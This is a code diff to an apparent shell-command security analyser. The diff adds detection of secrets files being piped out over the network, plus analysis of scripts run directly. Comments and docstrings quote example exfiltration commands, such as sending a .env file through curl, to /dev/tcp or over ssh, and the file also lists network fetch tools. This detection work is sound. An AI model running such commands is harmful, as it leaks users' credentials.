@@ -16,6 +16,7 @@ raises :class:`~ringfence.errors.AnalysisLimit`, which the gate turns into a den
 
 from __future__ import annotations
 
+import contextlib
 import functools
 import os
 import re
@@ -39,6 +40,9 @@ MAX_NODES = 200_000
 MAX_NESTING = 200
 MAX_COMMANDS = 5_000
 MAX_SCRIPT_FILE_BYTES = 256 * 1024
+# Report code that cannot be resolved inside a script file run directly (``./x.sh``) that
+# was already on disk: see _Walker.direct_script.
+DIRECT_SCRIPT_OPAQUE = False
 UNKNOWN_CWD = "/(unknown-cwd)"
 
 NETWORK_FETCHERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "lwp-request", "GET"})
@@ -67,15 +71,60 @@ DECODERS = frozenset(
     }
 )
 PASS_THROUGH = frozenset({"cat", "tee", "head", "tail", "sort", "uniq", "grep", "dd", "pv"})
+# commands whose output carries (a transformation of) their input: a secret piped into
+# them is still in what they print
+SECRET_PASS_THROUGH = frozenset(
+    {
+        *PASS_THROUGH,
+        *DECODERS,
+        "tac",
+        "egrep",
+        "fgrep",
+        "rg",
+        "cut",
+        "gawk",
+        "mawk",
+        "jq",
+        "yq",
+        "basenc",
+        "od",
+        "hexdump",
+        "gzip",
+        "bzip2",
+        "xz",
+        "zstd",
+        "lz4",
+        "brotli",
+        "gpg2",
+        "age",
+        "fold",
+        "fmt",
+        "column",
+        "iconv",
+        "strings",
+        "nl",
+        "paste",
+        "expand",
+        "unexpand",
+        "uuencode",
+        "envsubst",
+        "sponge",
+        "stdbuf",
+        "cat",
+    }
+)
 DYNAMIC_MARK = "\x00dyn\x00"
 
 _parser: Parser | None = None
 
 # tree-sitter-bash's scanner passes the lookahead code point to isalpha()/isdigit(), which
 # is undefined (and crashes) past U+00FF. Every such character is an ordinary word
-# character to bash, so the parser is given U+00BF in its place; lone surrogates (other than
-# the U+DC80-U+DCFF that stand for undecodable bytes) are replaced the same way.
+# character to bash, so the parser is given ASCII letters of the same UTF-8 length in its
+# place (see _parser_bytes) and node text is read from the original bytes. Lone
+# surrogates (other than the U+DC80-U+DCFF that stand for undecodable bytes) cannot be
+# encoded at all: they become U+00BF, in the analysed text too.
 _PARSER_UNSAFE = re.compile("[^\x00-\xff\udc80-\udcff]")
+_LONE_SURROGATE = re.compile("[\ud800-\udc7f\udd00-\udfff]")
 
 
 def _get_parser() -> Parser:
@@ -108,13 +157,14 @@ class Feed:
     text: str | None  # known content, or None
     source: str  # heredoc | herestring | echo | file | net | decoded | unknown
     producers: tuple[str, ...] = ()
+    secret_sources: tuple[str, ...] = ()  # secrets files whose content flows in (``cat .env | …``)
 
 
 @dataclass(slots=True)
 class Scope:
     vars: dict[str, str | None] = field(default_factory=dict)
     cwd: str = ""
-    functions: dict[str, Any] = field(default_factory=dict)
+    functions: dict[str, tuple[Node, bytes]] = field(default_factory=dict)  # name -> (body, its source)
     aliases: dict[str, str] = field(default_factory=dict)
 
     def copy(self) -> Scope:
@@ -141,6 +191,8 @@ class _Walker:
         # files this source writes before it may run them: (remote, path) -> content or None
         self.written: dict[tuple[str | None, str], str | None] = {}
         self.downloaded: set[tuple[str | None, str]] = set()  # ... written from a network download
+        self.scripts: list[tuple[str, int]] = []  # script files being analysed: (path, hash of content)
+        self.quiet = 0  # > 0: inside a script run directly, where unresolved code is not reported
 
     # entry points
 
@@ -155,15 +207,17 @@ class _Walker:
     ) -> None:
         if depth > self.ctx.config.max_unwrap_depth:
             raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
-        safe = source if source.isascii() else _PARSER_UNSAFE.sub("\u00bf", source)
-        data = safe.encode("utf-8", "surrogateescape")
+        data, parsed = _parser_bytes(source)
         if len(data) > self.ctx.config.max_command_bytes:
             raise AnalysisLimit(
                 f"command is {len(data)} bytes; the analysis limit is {self.ctx.config.max_command_bytes}"
             )
-        tree = _blank_misparsed_keywords(data, _get_parser().parse(data))
+        placeholders = parsed is not data
+        tree, data = _blank_misparsed_keywords(data, parsed, _get_parser().parse(parsed))
+        if placeholders and b"<<" in parsed:
+            _check_heredoc_delimiters(tree, data)
         root = tree.root_node
-        st = _State(scope, via, remote, depth, stdin)
+        st = _State(scope, via, remote, depth, stdin, data)
         self.stmt(root, st, 0)
         if root.has_error:
             self._fallback(source, st)
@@ -187,9 +241,10 @@ class _Walker:
                 lexer.commenters = "#"
                 tokens = list(lexer)
             except ValueError:
-                self.trace.effects.append(
-                    Effect("analysis.error", {"reason": "unbalanced quotes"}, evidence=line[:200], via=st.via)
-                )
+                if not self.quiet:
+                    self.trace.effects.append(
+                        Effect("analysis.error", {"reason": "unbalanced quotes"}, evidence=line[:200], via=st.via)
+                    )
                 continue
             argv: list[str] = []
             for tok in [*tokens, ";"]:
@@ -226,12 +281,12 @@ class _Walker:
             args = [w for c in node.named_children if c.type != "comment" for w in self.fields(c, st, level + 1)]
             for w in args:
                 st.scope.vars.pop(w.value, None)
-            self.run([Word("unset"), *args], st, text=_text(node))
+            self.run([Word("unset"), *args], st, text=_text(node, st.src))
         elif t == "function_definition":
             name_node = node.child_by_field_name("name")
             body = node.child_by_field_name("body")
             if name_node is not None and body is not None:
-                st.scope.functions[_text(name_node)] = body
+                st.scope.functions[_text(name_node, st.src)] = (body, st.src)
         elif t == "subshell":
             inner = replace(st, scope=st.scope.copy())
             for c in node.named_children:
@@ -244,7 +299,7 @@ class _Walker:
         elif t in ("for_statement", "select_statement"):
             var = node.child_by_field_name("variable")
             if var is not None:
-                st.scope.vars[_text(var)] = None
+                st.scope.vars[_text(var, st.src)] = None
             for c in node.named_children:
                 if c.type in ("do_group",):
                     self.stmt(c, st, level + 1)
@@ -318,14 +373,14 @@ class _Walker:
     def assign(self, node: Node, st: _State, level: int) -> None:
         name_node = node.child_by_field_name("name")
         value_node = node.child_by_field_name("value")
-        name = _text(name_node) if name_node is not None else ""
+        name = _text(name_node, st.src) if name_node is not None else ""
         if value_node is None:
             st.scope.vars[name] = ""
             return
         w = self.word(value_node, st, level + 1)
         st.scope.vars[name] = None if w.dynamic else w.value
         if name.startswith("RINGFENCE_") or name in ("PATH",):
-            self.run([Word("export"), Word(f"{name}={w.value}")], st, text=_text(node))
+            self.run([Word("export"), Word(f"{name}={w.value}")], st, text=_text(node, st.src))
 
     def declaration(self, node: Node, st: _State, level: int) -> None:
         keyword = node.children[0].type if node.children else "declare"
@@ -334,14 +389,14 @@ class _Walker:
             if c.type == "variable_assignment":
                 self.assign(c, st, level + 1)
                 name_node = c.child_by_field_name("name")
-                name = _text(name_node) if name_node is not None else ""
+                name = _text(name_node, st.src) if name_node is not None else ""
                 value = st.scope.vars.get(name)
                 words.append(Word(f"{name}={value if value is not None else ''}", value is None))
             elif c.type == "variable_name":
-                words.append(Word(_text(c)))
+                words.append(Word(_text(c, st.src)))
             else:
                 words.extend(self.fields(c, st, level + 1))
-        self.run(words, st, text=_text(node))
+        self.run(words, st, text=_text(node, st.src))
 
     def redirected(self, node: Node, st: _State, level: int) -> None:
         body = node.child_by_field_name("body")
@@ -405,7 +460,7 @@ class _Walker:
         """A compound command with redirections: its commands read the redirected input."""
         reds, stdin, _ = self.redirect_values(redirects, st, level)
         self.stmt(body, st if stdin is None else replace(st, stdin=stdin), level)
-        self.apply_redirects(reds, st, Word(_text(body)))
+        self.apply_redirects(reds, st, Word(_text(body, st.src)))
 
     def apply_redirects(self, reds: list[Redirect], st: _State, owner: Word) -> None:
         """Redirections on a compound statement: classify their targets."""
@@ -446,12 +501,13 @@ class _Walker:
                 if body.type == "command":
                     feed = self.command(body, stage_st, level + 1, feed, reds + extra, producers)
                 else:
-                    self.stmt(stage, stage_st, level + 1)
+                    self.stmt(stage, stage_st if feed is None else replace(stage_st, stdin=feed), level + 1)
                     feed = Feed(None, "unknown")
             else:
-                self.stmt(stage, stage_st, level + 1)
+                # `… | (cmd)`, `… | { a; b; }`, `… | while read …`: the input reaches the commands inside
+                self.stmt(stage, stage_st if feed is None else replace(stage_st, stdin=feed), level + 1)
                 feed = Feed(None, "unknown")
-            name = _stage_name(stage)
+            name = _stage_name(stage, st.src)
             producers = (*producers, name) if name else producers
 
     def command(
@@ -474,7 +530,7 @@ class _Walker:
                 value_node = c.child_by_field_name("value")
                 value = self.word(value_node, st, level + 1) if value_node is not None else Word("")
                 if name_node is not None:
-                    env[_text(name_node)] = value.value
+                    env[_text(name_node, st.src)] = value.value
             elif c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                 own_redirects.append(c)
             elif c.type == "command_name":
@@ -484,6 +540,8 @@ class _Walker:
                 if c.type == "comment":
                     continue
                 words.extend(self.fields(c, st, level + 1))
+        if words and own_redirects:
+            self.lost_dash(node, own_redirects, words, st)
         reds, stdin_feed, input_files = self.redirect_values(own_redirects, st, level, words)
         if stdin_feed is not None:
             feed = stdin_feed
@@ -496,12 +554,14 @@ class _Walker:
                 for k, v in env.items():
                     st.scope.vars[k] = v
                 if any(k.startswith("RINGFENCE_") for k in env):
-                    self.run([Word("export"), *(Word(f"{k}={v}") for k, v in env.items())], st, text=_text(node))
+                    self.run(
+                        [Word("export"), *(Word(f"{k}={v}") for k, v in env.items())], st, text=_text(node, st.src)
+                    )
             if reds:
                 self.redirect_effects(
                     Command(
                         argv=(":",),
-                        text=_text(node),
+                        text=_text(node, st.src),
                         via=st.via,
                         redirects=tuple(reds),
                         cwd=st.scope.cwd,
@@ -509,7 +569,19 @@ class _Walker:
                     )
                 )
             return Feed(None, "unknown")
-        return self.run(words, st, text=_text(node), env=env, redirects=reds, feed=feed, input_files=input_files)
+        return self.run(
+            words, st, text=_text(node, st.src), env=env, redirects=reds, feed=feed, input_files=input_files
+        )
+
+    @staticmethod
+    def lost_dash(node: Node, redirects: list[Node], words: list[Word], st: _State) -> None:
+        """tree-sitter-bash drops a bare ``-`` written just before a heredoc (``make -f - <<EOF``,
+        ``kubectl apply -f - <<EOF``, ``python - <<EOF``): put it back."""
+        for r in redirects:
+            if r.type == "heredoc_redirect" and r.start_byte > node.end_byte:
+                if st.src[node.end_byte : r.start_byte].strip() == b"-":
+                    words.append(Word("-"))
+                return
 
     def redirect_values(
         self,
@@ -536,7 +608,7 @@ class _Walker:
                     fname = r.field_name_for_child(i)
                     if fname == "descriptor":
                         try:
-                            fd = int(_text(c))
+                            fd = int(_text(c, st.src))
                         except ValueError:
                             fd = None
                     elif fname == "destination" and dest is None:
@@ -546,20 +618,23 @@ class _Walker:
                         if extra_args is not None:
                             extra_args.extend(words)
                     elif not c.is_named:
-                        op = _text(c)
+                        op = _text(c, st.src)
                 if dest is None:
                     continue
                 if op in ("<", "<&", "<>") and not dest.value.isdigit():
                     inputs.append(dest)
                     feed = dest.feed if dest.feed is not None else Feed(self.read_file(dest), "file")
+                    secret = self.secret_file(dest, st.scope.cwd)
+                    if secret is not None:
+                        feed = replace(feed, secret_sources=(secret,))
                 if (op.endswith("&") and dest.value.isdigit()) or dest.value == "-":
                     continue  # 2>&1, >&2
                 reds.append(Redirect(op, DYNAMIC_MARK if dest.dynamic else dest.value, fd))
             elif r.type == "heredoc_redirect":
                 body = next((c for c in r.children if c.type == "heredoc_body"), None)
                 start = next((c for c in r.children if c.type == "heredoc_start"), None)
-                quoted = start is not None and any(q in _text(start) for q in ("'", '"', "\\"))
-                text = _text(body) if body is not None else ""
+                quoted = start is not None and any(q in _text(start, st.src) for q in ("'", '"', "\\"))
+                text = _text(body, st.src) if body is not None else ""
                 for i, c in enumerate(r.children):
                     if r.field_name_for_child(i) == "argument" and extra_args is not None:
                         extra_args.extend(self.fields(c, st, level + 1))
@@ -573,6 +648,15 @@ class _Walker:
                     w = self.word(val, st, level + 1)
                     feed = Feed(None if w.dynamic else w.value + "\n", "net" if w.net else "herestring")
         return reds, feed, inputs
+
+    def secret_file(self, w: Word, cwd: str) -> str | None:
+        """The absolute path ``w`` names, when it is a secrets file."""
+        if w.dynamic or cwd == UNKNOWN_CWD:
+            return None
+        from ringfence.analyze import files
+
+        path = self.ctx.resolve(w.value, cwd or None)
+        return path if files.is_secret_path(path, self.ctx) else None
 
     def read_file(self, w: Word, cwd: str | None = None) -> str | None:
         """Read a file the command reads (never runs it), bounded in size."""
@@ -624,18 +708,18 @@ class _Walker:
         self.tick(level)
         t = node.type
         if t in ("word", "number", "variable_name", "extglob_pattern", "regex", "special_variable_name"):
-            return Word(_unescape_word(_text(node)))
+            return Word(_unescape_word(_text(node, st.src)))
         if t == "raw_string":
-            return Word(_text(node)[1:-1])
+            return Word(_text(node, st.src)[1:-1])
         if t == "ansi_c_string":
-            return Word(_ansi_c(_text(node)[2:-1]))
+            return Word(_ansi_c(_text(node, st.src)[2:-1]))
         if t in ("string", "translated_string"):
             return self.dq_string(node, st, level)
         if t == "concatenation":
             parts = [self.word(c, st, level + 1) for c in node.children if c.is_named or c.type != '"']
             return _join(parts)
         if t == "simple_expansion":
-            name = _text(node)[1:]
+            name = _text(node, st.src)[1:]
             return self.lookup(name, st)
         if t == "expansion":
             return self.expansion(node, st, level)
@@ -643,28 +727,28 @@ class _Walker:
             return self.substitution(node, st, level)
         if t == "arithmetic_expansion":
             self.expr_substitutions(node, st, level + 1)
-            return Word(_text(node), dynamic=True)
+            return Word(_text(node, st.src), dynamic=True)
         if t == "brace_expression":
-            return Word(_text(node))
+            return Word(_text(node, st.src))
         if t == "array":
             for c in node.named_children:
                 self.word(c, st, level + 1)
-            return Word(_text(node), dynamic=True)
+            return Word(_text(node, st.src), dynamic=True)
         # unknown node types: run substitutions, keep the text
         self.expr_substitutions(node, st, level + 1)
-        return Word(_text(node), dynamic=node.named_child_count > 0)
+        return Word(_text(node, st.src), dynamic=node.named_child_count > 0)
 
     def dq_string(self, node: Node, st: _State, level: int) -> Word:
         parts: list[Word] = []
-        raw = node.text or b""
         base = node.start_byte
+        raw = st.src[base : node.end_byte]
         pos = base + (2 if raw.startswith(b'$"') else 1)
         end = node.end_byte - 1
         for c in node.named_children:
             if c.start_byte > pos:
                 parts.append(Word(_unescape_dq(raw[pos - base : c.start_byte - base].decode("utf-8", "replace"))))
             if c.type == "string_content":
-                parts.append(Word(_unescape_dq(_text(c))))
+                parts.append(Word(_unescape_dq(_text(c, st.src))))
             else:
                 parts.append(self.word(c, st, level + 1))
             pos = c.end_byte
@@ -683,7 +767,7 @@ class _Walker:
         return Word("$" + name, dynamic=True)
 
     def expansion(self, node: Node, st: _State, level: int) -> Word:
-        inner = _text(node)[2:-1]
+        inner = _text(node, st.src)[2:-1]
         name = ""
         for ch in inner:
             if ch.isalnum() or ch == "_":
@@ -705,14 +789,14 @@ class _Walker:
         if name and inner[len(name) :][:2] in (":-", ":=") and name not in st.scope.vars:
             # ${X:-default}: X unknown, so the default may apply; still dynamic
             return Word(inner[len(name) + 2 :], dynamic=True)
-        return Word(_text(node), dynamic=True)
+        return Word(_text(node, st.src), dynamic=True)
 
     def substitution(self, node: Node, st: _State, level: int) -> Word:
         """Run a ``$(…)``/backtick/``<(…)`` substitution; return its static value if known."""
         inner_st = replace(st, scope=st.scope.copy())
         body = [c for c in node.named_children]
         start_cmds = len(self.trace.commands)
-        unescaped = _backtick_source(node)
+        unescaped = _backtick_source(node, st.src)
         if unescaped is not None:
             self.walk_source(unescaped, inner_st.scope, st.via, st.remote, st.depth + 1, st.stdin)
         else:
@@ -733,7 +817,7 @@ class _Walker:
             return Word("/dev/fd/63", dynamic=True, net=net, feed=feed)
         if value is not None:
             return Word(value.rstrip("\n"), net=net)
-        return Word(_text(node), dynamic=True, net=net)
+        return Word(_text(node, st.src), dynamic=True, net=net)
 
     # running a command -------------------------------------------------------------------
 
@@ -781,13 +865,13 @@ class _Walker:
                 via = (*via, f"alias {name}")
                 continue
             if argv[0] in st.scope.functions and "/" not in argv[0]:
-                fn_body = st.scope.functions[argv[0]]
+                fn_body, fn_src = st.scope.functions[argv[0]]
                 frame = (argv[0], fn_body.id)
                 if frame in self.call_stack or len(self.call_stack) > 32:
                     return Feed(None, "unknown")  # recursion: its body was already analysed
                 self.call_stack.append(frame)
                 try:
-                    fn_st = replace(st, via=(*via, f"function {argv[0]}"), stdin=feed or st.stdin)
+                    fn_st = replace(st, via=(*via, f"function {argv[0]}"), stdin=feed or st.stdin, src=fn_src)
                     self.stmt(fn_body, fn_st, 0)
                 finally:
                     self.call_stack.pop()
@@ -838,6 +922,9 @@ class _Walker:
                 via = (*via, peeled.label)
                 continue
             if isinstance(peeled, unwrap.Script):
+                if peeled.label == "eval" and st.depth + _eval_chain(argv) > self.ctx.config.max_unwrap_depth:
+                    # `eval eval eval … cmd`: each level would re-parse the whole rest
+                    raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
                 script_index = argv.index(peeled.source) if peeled.source in argv else -1
                 is_dyn = (
                     peeled.dynamic
@@ -857,6 +944,12 @@ class _Walker:
                         f"{peeled.label} runs a string that is not known until run time",
                         net=is_net,
                     )
+                if peeled.label == "ssh" and feed is not None and feed.secret_sources and "-n" not in argv:
+                    # `cat .env | ssh host 'cat > x'`: ssh sends its input to the host
+                    ssh = Command(
+                        argv=tuple(argv), text=text[:2000], via=via, cwd=cwd, remote=remote, stdin_from=feed.producers
+                    )
+                    self.exfil(ssh, feed.secret_sources, peeled.remote or "ssh", [])
                 sub = replace(
                     st,
                     via=(*via, peeled.label),
@@ -876,6 +969,10 @@ class _Walker:
             raise AnalysisLimit(f"more than {self.ctx.config.max_unwrap_depth} nested wrappers")
         if st.scope.cwd == UNKNOWN_CWD:
             dynamic |= {i for i, a in enumerate(argv) if i and not a.startswith(("-", "/", "~"))}
+        if "/" in argv[0] and remote is None:
+            ran = self.direct_script(argv, dynamic, st, via, cwd, text, env, redirects or [], feed)
+            if ran is not None:
+                return ran
         from ringfence.analyze import interp
 
         code = interp.inline_code(argv)
@@ -912,8 +1009,63 @@ class _Walker:
                 )
             self.interpreted((interp.language(argv[0]), feed.text), argv, st, via, remote, cwd, text)
             return Feed(None, "unknown")
+        start = len(self.trace.effects)
         cmd = self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, env, redirects or [], feed)
-        return _output_of(cmd, feed, self)
+        return self.secret_flow(cmd, feed, start, _output_of(cmd, feed, self))
+
+    def secret_flow(self, cmd: Command, feed: Feed | None, start: int, out: Feed) -> Feed:
+        """Follow secrets through a pipeline: ``cat .env | base64 | curl -d @- URL``.
+
+        A command that sends its standard input over the network while a secrets file
+        flows into it is a ``secrets.exfil`` (unless the command's own classifier already
+        said so); a command that reads a secrets file, or passes one through
+        (:data:`SECRET_PASS_THROUGH`), hands it on to the next stage.
+        """
+        carried = feed.secret_sources if feed is not None else ()
+        new = self.trace.effects[start:]
+        read = tuple(
+            t
+            for e in new
+            if e.kind == "secrets.read" and e.attrs.get("operation") in ("read", "credential_print")
+            for t in _targets(e)
+        )
+        if carried:
+            destination = _stdin_destination(cmd)
+            if destination is not None:
+                self.exfil(cmd, carried, destination, new)
+        flowing = tuple(dict.fromkeys((*read, *(carried if cmd.name in SECRET_PASS_THROUGH else ()))))
+        if not flowing:
+            return out
+        for r in cmd.redirects:  # `cat .env > /dev/tcp/host/port`
+            if r.op in (">", ">>", ">|", "&>") and r.target.startswith(("/dev/tcp/", "/dev/udp/")):
+                self.exfil(cmd, flowing, r.target, new, pipeline=False)
+        return replace(out, secret_sources=flowing)
+
+    def exfil(
+        self,
+        cmd: Command,
+        secrets: tuple[str, ...],
+        destination: str,
+        found: list[Effect],
+        *,
+        pipeline: bool = True,
+    ) -> None:
+        """A ``secrets.exfil`` for the secrets no effect in ``found`` already sends; ``pipeline``:
+        through ``cmd``'s standard input (else its output, to a ``/dev/tcp`` socket)."""
+        reported = {t for e in found if e.kind == "secrets.exfil" for t in _targets(e)}
+        targets = tuple(t for t in secrets if t not in reported)
+        if targets:
+            self.trace.effects.append(
+                effect(
+                    "secrets.exfil",
+                    cmd,
+                    targets=targets,
+                    destination=destination,
+                    tool=cmd.name,
+                    producers=cmd.stdin_from,
+                    pipeline=pipeline,
+                )
+            )
 
     def change_dir(self, argv: list[str], dynamic: set[int], st: _State) -> None:
         args = [a for a in argv[1:] if not (a.startswith("-") and a != "-")]
@@ -1071,13 +1223,124 @@ class _Walker:
                 f"script {argv[idx]} is too large or unreadable to analyse",
                 emit_cmd=False,
             )
-        script_cwd = cwd
-        sub = Scope(dict(st.scope.vars) if argv[0] in ("source", ".") else {}, script_cwd)
-        self.walk_source(content, sub, (*via, f"script {argv[idx]}"), remote, st.depth + 1)
-        if argv[0] in ("source", "."):
+        sourced = argv[0] in ("source", ".")
+        variables: dict[str, str | None] = dict(st.scope.vars) if sourced else {"0": argv[idx]}
+        if not sourced or idx + 1 < len(argv):
+            variables.update(_positional(argv, dynamic, idx))
+        sub = Scope(variables, cwd)
+        with self.script_frame(path, content) as fresh:
+            if fresh:
+                self.walk_source(content, sub, (*via, f"script {argv[idx]}"), remote, st.depth + 1)
+        if sourced:
             st.scope.vars.update(sub.vars)
             st.scope.functions.update(sub.functions)
         return Feed(None, "unknown")
+
+    @contextlib.contextmanager
+    def script_frame(self, path: str, content: str, *, quiet: bool = False) -> Iterator[bool]:
+        """Enter a script file for analysis; yields False when that same script (same path
+        and content) is already being analysed further up, i.e. the script runs itself:
+        its commands are already in the trace, and walking it again would only recurse
+        to the depth limit. ``quiet``: see :meth:`direct_script`."""
+        frame = (path, hash(content))
+        if frame in self.scripts:
+            yield False
+            return
+        self.scripts.append(frame)
+        self.quiet += quiet
+        try:
+            yield True
+        finally:
+            self.quiet -= quiet
+            self.scripts.pop()
+
+    def direct_script(
+        self,
+        argv: list[str],
+        dynamic: set[int],
+        st: _State,
+        via: tuple[str, ...],
+        cwd: str,
+        text: str,
+        env: dict[str, str],
+        redirects: list[Redirect],
+        feed: Feed | None,
+    ) -> Feed | None:
+        """A file run as a program (``./deploy.sh``, ``scripts/x.py``, ``/opt/run.sh``).
+
+        The file is read, never run. With a shell shebang, or none at all (bash then runs
+        the file itself), it is analysed like ``bash FILE``; with a Python, Node, Perl,
+        Ruby... shebang, as that language's code. Nothing is analysed for a missing file
+        (nothing runs), a binary, a file too large or an interpreter the analysis does not
+        know. Returns ``None`` when the caller goes on with the command as usual (its own
+        classification, ``-c`` code, ...: ``~/.pyenv/shims/python -c CODE`` is a script
+        too); a :class:`Feed` when the command was handled here (a script this command
+        downloaded or wrote with unknown content).
+
+        Code that cannot be resolved (``opaque_exec``, ``analysis.error``) inside a script
+        that was already on disk is not reported unless :data:`DIRECT_SCRIPT_OPAQUE`: project
+        scripts routinely run computed commands (``exec "$JAVACMD" "$@"`` in ``gradlew``),
+        and before this analysis such a script was not looked into at all. Its concrete
+        effects (deletions, pushes, deploys, ...) are reported. A script this same command
+        wrote or downloaded is reported in full.
+        """
+        if cwd == UNKNOWN_CWD and not argv[0].startswith(("/", "~")):
+            return None
+        path = self.ctx.resolve(argv[0], cwd)
+        key = (None, path)
+        quiet = False
+        if key in self.written:
+            content = self.written[key]
+            if key in self.downloaded or content is None:
+                self.emit(tuple(argv), dynamic, st, via, None, cwd, text, env, redirects, feed)
+                how = "downloaded" if key in self.downloaded else "written with content known only at run time"
+                return self.opaque(
+                    argv,
+                    dynamic,
+                    st,
+                    via,
+                    None,
+                    cwd,
+                    text,
+                    f"script {argv[0]} runs, {how} by this command",
+                    net=key in self.downloaded,
+                    emit_cmd=False,
+                )
+        else:
+            content = self.read_script(path)
+            quiet = not DIRECT_SCRIPT_OPAQUE
+        lang = _script_language(content) if content is not None else None
+        if content is None or lang is None:
+            return None
+        with self.script_frame(path, content, quiet=quiet) as fresh:
+            if fresh and lang == "sh":
+                variables = {"0": argv[0], **_positional(argv, dynamic, 0)}
+                self.walk_source(content, Scope(variables, cwd), (*via, f"script {argv[0]}"), None, st.depth + 1)
+            elif fresh:
+                if st.depth + 1 > self.ctx.config.max_unwrap_depth:
+                    raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
+                inner = replace(st, depth=st.depth + 1)
+                self.interpreted((lang, content), argv, inner, (*via, f"script {argv[0]}"), None, cwd, text)
+        return None
+
+    def read_script(self, path: str) -> str | None:
+        """The text of a script file run directly; ``None`` for a missing, non-regular,
+        binary or too large file. Counts as a filesystem read."""
+        self.ctx.fs_reads += 1
+        try:
+            info = os.stat(path)
+            if not stat.S_ISREG(info.st_mode) or info.st_size > MAX_SCRIPT_FILE_BYTES:
+                return None
+            with open(path, "rb") as fh:
+                head = fh.read(512)
+                if _is_binary(head) or _script_language(head.decode("utf-8", "replace")) is None:
+                    return None
+                data = head + fh.read(MAX_SCRIPT_FILE_BYTES + 1 - len(head))
+        except (OSError, ValueError):
+            return None
+        if len(data) > MAX_SCRIPT_FILE_BYTES:
+            return None
+        return data.decode("utf-8", "replace")
 
     def interpreted(
         self,
@@ -1103,7 +1366,16 @@ class _Walker:
                     replace(st, via=(*via, label), remote=remote, scope=Scope(cwd=cwd)),
                     text=text,
                 )
-            elif directive.kind == "opaque":
+            elif directive.kind == "remote":
+                self.trace.effects.append(
+                    Effect(
+                        "code.remote_exec",
+                        {"interpreter": lang, "reason": directive.value},
+                        evidence=text[:500],
+                        via=(*via, label),
+                    )
+                )
+            elif directive.kind == "opaque" and not self.quiet:
                 self.trace.effects.append(
                     Effect(
                         "opaque_exec",
@@ -1131,6 +1403,8 @@ class _Walker:
         if emit_cmd:
             self.emit(tuple(argv), dynamic, st, via, remote, cwd, text, {}, [], None, classify=False)
         kind = "code.remote_exec" if net or source == "net" else "opaque_exec"
+        if self.quiet and kind == "opaque_exec":
+            return Feed(None, "unknown")
         attrs: dict[str, Any] = {"reason": reason}
         if source:
             attrs["source"] = source
@@ -1229,24 +1503,30 @@ class _State:
     remote: str | None
     depth: int
     stdin: Feed | None = None  # what a compound command, function or -c script reads
+    src: bytes = b""  # the original bytes of the parse the nodes being walked come from
 
 
 # -- helpers -----------------------------------------------------------------------------------
 
 
-def _text(node: Node | None) -> str:
-    if node is None or node.text is None:
+def _text(node: Node | None, src: bytes) -> str:
+    """The source text of ``node``, read from the original bytes of its parse (``src``).
+
+    The parser may have been given placeholders in place of some characters (see
+    :func:`_parser_bytes`); they have the same byte length, so offsets agree.
+    """
+    if node is None:
         return ""
-    return node.text.decode("utf-8", "surrogateescape")
+    return src[node.start_byte : node.end_byte].decode("utf-8", "surrogateescape")
 
 
-def _backtick_source(node: Node) -> str | None:
+def _backtick_source(node: Node, src: bytes) -> str | None:
     """The command inside a backtick substitution, when bash's backslash pass changes it.
 
     Inside backticks bash first removes a backslash before ``$``, `````` ` `````` or ``\\``,
     then parses the result; tree-sitter parses the text as written.
     """
-    text = _text(node)
+    text = _text(node, src)
     if not (text.startswith("`") and text.endswith("`") and len(text) >= 2 and "\\" in text):
         return None
     inner = text[1:-1]
@@ -1341,7 +1621,71 @@ _name_query: Any = None
 _word_query: Any = None
 
 
-def _blank_misparsed_keywords(data: bytes, tree: Any) -> Any:
+def _parser_bytes(source: str) -> tuple[bytes, bytes]:
+    """``(original, for_the_parser)``: the UTF-8 bytes of ``source``, and the same bytes
+    with every character past U+00FF replaced by a run of one ASCII letter, as long as
+    the character's UTF-8 encoding.
+
+    The replacement keeps every byte offset, so a node's text is read from the original
+    bytes. Letters are plain word characters to the grammar, as the characters they stand
+    for are to bash: they cannot open or close a quote or a substitution, and a word with
+    a doubled letter is never a reserved word (none has one). Distinct characters get
+    distinct letters (up to 52 of them), so a heredoc delimiter written with such
+    characters does not match a different line; :func:`_check_heredoc_delimiters` catches
+    what is left.
+    """
+    if source.isascii():
+        data = source.encode("ascii")
+        return data, data
+    if _LONE_SURROGATE.search(source):
+        source = _LONE_SURROGATE.sub("\u00bf", source)
+    data = source.encode("utf-8", "surrogateescape")
+    if not _PARSER_UNSAFE.search(source):
+        return data, data
+    letters: dict[str, str] = {}
+
+    def placeholder(m: re.Match[str]) -> str:
+        ch = m.group()
+        run = letters.get(ch)
+        if run is None:
+            run = letters[ch] = _PLACEHOLDER_LETTERS[len(letters) % 52] * len(ch.encode("utf-8"))
+        return run
+
+    return data, _PARSER_UNSAFE.sub(placeholder, source).encode("utf-8", "surrogateescape")
+
+
+_PLACEHOLDER_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+
+
+_heredoc_query: Any = None
+
+
+def _check_heredoc_delimiters(tree: Any, original: bytes) -> None:
+    """Raise :class:`AnalysisLimit` if a heredoc ends at a line that only matched a placeholder.
+
+    Two different characters of the same UTF-8 length get the same placeholder, so the
+    parser could end a heredoc at a line that bash does not take for its delimiter (and
+    read the rest of the body as commands, or the commands after it as text).
+    """
+    global _heredoc_query
+    import tree_sitter
+
+    if _heredoc_query is None:
+        _heredoc_query = tree_sitter.Query(tree.language, "(heredoc_redirect) @h")
+    for node in tree_sitter.QueryCursor(_heredoc_query).captures(tree.root_node).get("h", []):
+        start = next((c for c in node.children if c.type == "heredoc_start"), None)
+        end = next((c for c in node.children if c.type == "heredoc_end"), None)
+        if start is None or end is None:
+            continue
+        delimiter = _text(start, original).translate(_DELIMITER_QUOTES)
+        if _text(end, original) != delimiter:
+            raise AnalysisLimit("a heredoc delimiter with characters past U+00FF cannot be matched reliably")
+
+
+_DELIMITER_QUOTES = str.maketrans("", "", "'\"\\")
+
+
+def _blank_misparsed_keywords(original: bytes, data: bytes, tree: Any) -> tuple[Any, bytes]:
     """Re-parse without the ``time``, ``!`` and ``coproc`` keywords where the grammar misreads them.
 
     tree-sitter-bash parses ``time`` and ``coproc`` as command names and does not accept
@@ -1357,7 +1701,7 @@ def _blank_misparsed_keywords(data: bytes, tree: Any) -> Any:
     """
     glued = b"\n\\" in data
     if b"time" not in data and b"!" not in data and b"coproc" not in data and not glued:
-        return tree
+        return tree, original
